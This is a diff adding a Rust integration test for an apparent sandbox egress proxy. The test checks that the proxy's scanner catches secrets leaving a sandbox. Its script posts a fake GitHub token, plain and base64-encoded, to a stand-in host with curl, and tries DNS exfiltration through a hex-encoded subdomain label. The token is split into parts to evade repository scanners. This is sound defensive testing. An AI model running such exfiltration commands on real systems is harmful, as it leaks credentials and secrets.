@@ -138,6 +138,39 @@ fn every_client_trusts_the_proxy_and_its_requests_are_decided() {
 }
 
 #[test]
+fn scanner_reads_what_leaves_a_sandbox_and_the_names_that_it_resolves() {
+    hutch_testkit::require!(root, user_namespaces, curl, node, openssl, python);
+    let server = Server::start();
+    let port = server.port;
+    let rule = |name: &str, host: &str| {
+        format!("    - {{name: {name}, hosts: [\"{host}\"], ports: [{port}], private: [{SERVER}]}}\n")
+    };
+    let rules = rule("web", "web.example") + &rule("labels", "**.web.example") + "  scanner: {}\n";
+    let rules = policy(&server.site, "scanned", "Enforce", &rules);
+    // Made of parts, so that scanners of repositories do not report this file.
+    let token = ["gh", "p_", "q8Zk3mXw7Lp2Vt9Rb5Nc6Ha1Jd4Gs0Fy7Ue2"].concat();
+    let label = "68656c6c6f20776f726c6420616761696e";
+    let script = format!(
+        "url=https://web.example:{port}/ok/a; curl -sS -d 'weather in Berlin' $url; \
+        curl -sS -d \"note=$1\" $url | grep -c 'the scanner finds'; \
+        curl -sS -d \"note=$(printf %s \"$1\" | base64 -w 0)\" $url | grep -c 'the scanner finds'; \
+        python3 -c 'import socket; print(socket.gethostbyname(\"www.web.example\")[:7])'; \
+        python3 -c 'import socket; socket.gethostbyname(\"{label}.web.example\")' 2>&1 | tail -1"
+    );
+    for caller in callers() {
+        let output = server.run(caller, &["--policy", &rules], &["sh", "-uc", &script, "sh", &token]);
+        let (printed, errors) = (text(&output.stdout), text(&output.stderr));
+        let lines: Vec<&str> = printed.lines().collect();
+        assert_eq!(lines.len(), 5, "{caller:?}: {printed} {errors}");
+        assert_eq!(lines[..4], ["POST HTTP/2.0", "1", "1", "198.18."], "{caller:?}: {errors}");
+        assert!(lines[4].contains("gaierror"), "{printed}");
+        let refused = "refused *.web.example: the scanner finds `host-label-encoded` in the host name";
+        assert!(errors.contains(refused) && !errors.contains(label) && !errors.contains(&token), "{errors}");
+    }
+    assert_eq!(server.peer.printed().matches("POST").count(), callers().len());
+}
+
+#[test]
 fn websocket_needs_a_rule_that_says_so() {
     hutch_testkit::require!(root, user_namespaces, node, openssl);
     let server = Server::start();
